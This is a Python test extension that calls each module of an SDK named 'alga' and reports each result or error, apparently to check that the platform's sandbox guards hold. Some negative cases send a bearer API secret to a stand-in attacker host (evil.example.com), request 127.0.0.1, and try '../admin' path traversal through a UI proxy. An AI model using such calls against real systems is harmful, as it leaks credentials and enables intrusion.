"""Calls every module of `alga`, one for each path, and responds with what came of each call."""

from alga import HttpError, Request, Response, Router, clients, context, http, invoicing, kv, log, metrics, reveal
from alga import secrets, services, trace, ui_proxy, user

app = Router()
notes = kv.Namespace("notes")


def check(**calls):
    """Calls each function; an error is shown with its status."""
    results = {}
    for name, function in calls.items():
        try:
            results[name] = function()
        except HttpError as error:
            results[name] = f"{type(error).__name__} {error.status}: {error}"
        except Exception as error:
            results[name] = f"{type(error).__name__}: {error}"
    return Response.json(results)


@app.get("/clients")
def _clients(_: Request) -> Response:
    listed = lambda **filter: [item.name for item in clients.list(**filter).items]
    return check(
        list=lambda: listed(include_inactive=True, size=2),
        search=lambda: len(listed(search="a", size=1)),
        get=lambda: clients.get("c-1").name,
        get_nothing=lambda: clients.get("unknown"),
        wrong_page=lambda: listed(page=0),
    )


@app.get("/context")
def _context(_: Request) -> Response:
    current = context.current()
    return check(
        current=lambda: [len(current.request_id) > 0, current.tenant_id, len(current.extension_id) > 0],
        config=lambda: [len(context.config("greeting")) > 0, context.config("absent")],
        all_config=lambda: list(context.all_config()),
        remaining_ms=lambda: context.remaining_ms() > 0,
    )


@app.get("/fetch")
def _fetch(_: Request) -> Response:
    origin = context.config("greeting")

    def post():
        response = http.post(f"{origin}/echo?q=a%20b", json={"hello": "world"}, headers={"x-custom": "yes"})
        seen = response.json()
        return [response.status, seen["method"], seen["headers"]["x-custom"], seen["body_bytes"]]

    def both():
        pending = [http.start("GET", origin), http.start("PUT", origin)]
        first = http.wait_any(pending)
        return [first in pending, [one.response().status for one in pending]]

    return check(
        post=post,
        both=both,
        redirect=lambda: http.get(f"{origin}/redirect").status,
        undeclared=lambda: http.get("https://evil.example.com/").status,
        internal=lambda: http.get("http://127.0.0.1/").status,
        nonsense=lambda: http.get("nonsense").status,
    )


@app.get("/invoicing")
def _invoicing(_: Request) -> Response:
    line = lambda: invoicing.Item("s-1", 2.5, "Support", 12000.0, invoicing.DiscountKind.FIXED, None, None)
    create = lambda **options: invoicing.create("c-1", [line()], **options).number
    return check(
        create=lambda: create(idempotency_key="key-1", invoice_date="2026-11-21", due_date="2026-12-21", po_number="PO 7"),
        create_again=lambda: create(idempotency_key="key-1", invoice_date="2026-11-21", due_date="2026-12-21", po_number="PO 7"),
        no_items=lambda: invoicing.create("c-1", [], idempotency_key="key-2"),
        wrong_date=lambda: create(idempotency_key="key-3", due_date="21.12.2026"),
        unknown_client=lambda: invoicing.create("unknown", [line()], idempotency_key="key-4"),
    )


@app.get("/log")
def _log(_: Request) -> Response:
    return check(
        debug=lambda: log.debug("written"),
        info=lambda: log.info("written", key="value", number=1),
        warn=lambda: log.warn("written"),
        error=lambda: log.error("written"),
        printed=lambda: print("also written"),
    )


@app.get("/metrics")
def _metrics(_: Request) -> Response:
    return check(
        add=lambda: metrics.add("calls", 2, kind="a"),
        set=lambda: metrics.set("depth", 7),
        observe=lambda: metrics.observe("seconds", 0.25),
        undeclared=lambda: metrics.add("others"),
        wrong_label=lambda: metrics.add("calls", color="red"),
        negative=lambda: metrics.add("calls", -1, kind="a"),
    )


@app.get("/reveal")
def _reveal(_: Request) -> Response:
    return check(
        text=lambda: reveal.text("api-key"),
        not_set=lambda: reveal.text("not-set"),
        undeclared=lambda: reveal.text("undeclared"),
    )


@app.get("/secrets")
def _secrets(_: Request) -> Response:
    origin = context.config("greeting")
    seen = lambda *placements: http.get(f"{origin}/digest", secrets=placements).json()["headers"]
    return check(
        declared=lambda: [item.name for item in secrets.declared()],
        bearer=lambda: seen(secrets.bearer("api-key"))["authorization"],
        basic=lambda: seen(secrets.basic("api-key", "alga"))["authorization"],
        header=lambda: seen(secrets.header("api-key", "x-api-key"))["x-api-key"],
        post=lambda: http.post(f"{origin}/echo", json="a" * 5000, secrets=[secrets.bearer("api-key")]).json()["body_bytes"],
        elsewhere=lambda: seen(secrets.bearer("elsewhere")),
        undeclared=lambda: seen(secrets.bearer("undeclared")),
        not_set=lambda: seen(secrets.bearer("not-set")),
        not_a_field=lambda: seen(secrets.header("api-key", "host")),
        evil=lambda: http.get("https://evil.example.com/", secrets=[secrets.bearer("api-key")]).status,
        evil_post=lambda: http.post("https://evil.example.com/", json="a" * 200_000, secrets=[secrets.bearer("api-key")]).status,
        field=lambda: http.get(f"{origin}/digest", headers={"x-a": "€"}, secrets=[secrets.bearer("api-key")]).status,
        scheme=lambda: http.get("ftp://api.example.com/", secrets=[secrets.bearer("api-key")]).status,
        nonsense=lambda: http.get("https://[/", secrets=[secrets.bearer("api-key")]).status,
    )


@app.get("/services")
def _services(_: Request) -> Response:
    hourly = dict(kind=services.ItemKind.SERVICE, is_active=True, billing_method=services.BillingMethod.HOURLY)
    return check(
        list=lambda: [item.name for item in services.list(page=1, size=2).items],
        filter=lambda: len(services.list(**hourly).items),
        get=lambda: services.get("s-1").name,
        get_nothing=lambda: services.get("unknown"),
    )


@app.get("/storage")
def _storage(_: Request) -> Response:
    def metadata():
        notes.put("b", b"\x00\xff", metadata=b"meta", ttl_seconds=3600)
        entry = notes.get("b")
        return [list(entry.value), entry.metadata.decode(), entry.expires_in_seconds > 3500]

    return check(
        get_nothing=lambda: notes.get("a"),
        put=lambda: [notes.put("a", 1), notes.put("a", 2, if_revision=1)],
        conflict=lambda: notes.put("a", 3, if_revision=1),
        create=lambda: notes.put("a", 3, if_revision=0),
        get=lambda: [notes.get("a").json(), notes.get("a").revision],
        metadata=metadata,
        list=lambda: [entry.key for entry in notes.list(limit=1)[0]],
        next=lambda: [entry.key for entry in notes.list(cursor=notes.list(limit=1)[1])[0]],
        delete=lambda: [notes.delete("a"), notes.delete("a")],
        delete_at=lambda: notes.delete("b", if_revision=9),
        schema=lambda: kv.Namespace("typed").put("a", {"cents": "1"}),
        too_long=lambda: notes.put("k" * 300, 1),
        too_large=lambda: notes.put("k", "a" * 70_000),
    )


@app.get("/trace")
def _trace(_: Request) -> Response:
    def inside():
        with trace.span("outer") as outer:
            outer.set(lines=3)
            with trace.span("inner", outer):
                return trace.traceparent()

    def fails():
        with trace.span("fails"):
            raise KeyError("nothing is left")

    return check(
        inside=inside,
        fails=fails,
        set=lambda: trace.set(order="o-17"),
        refused=lambda: trace.span("").end(),
    )


@app.get("/ui_proxy")
def _ui_proxy(_: Request) -> Response:
    def shown(response):
        return [response.status, response.content_type, response.json()]

    return check(
        read=lambda: shown(ui_proxy.call("ticket", id="17 b", view="full&all")),
        write=lambda: shown(ui_proxy.call("comment", id="17", body={"text": "hello"})),
        path=lambda: ui_proxy.call("ticket", id="../admin"),
        admin=lambda: ui_proxy.call("/api/admin"),
        forbidden=lambda: ui_proxy.call("forbidden"),
        nothing=lambda: ui_proxy.call("nothing"),
        broken=lambda: ui_proxy.call("broken"),
    )


@app.get("/user")
def _user(_: Request) -> Response:
    return check(current=lambda: [user.current().id, user.current().email])


Handler = app.handler()
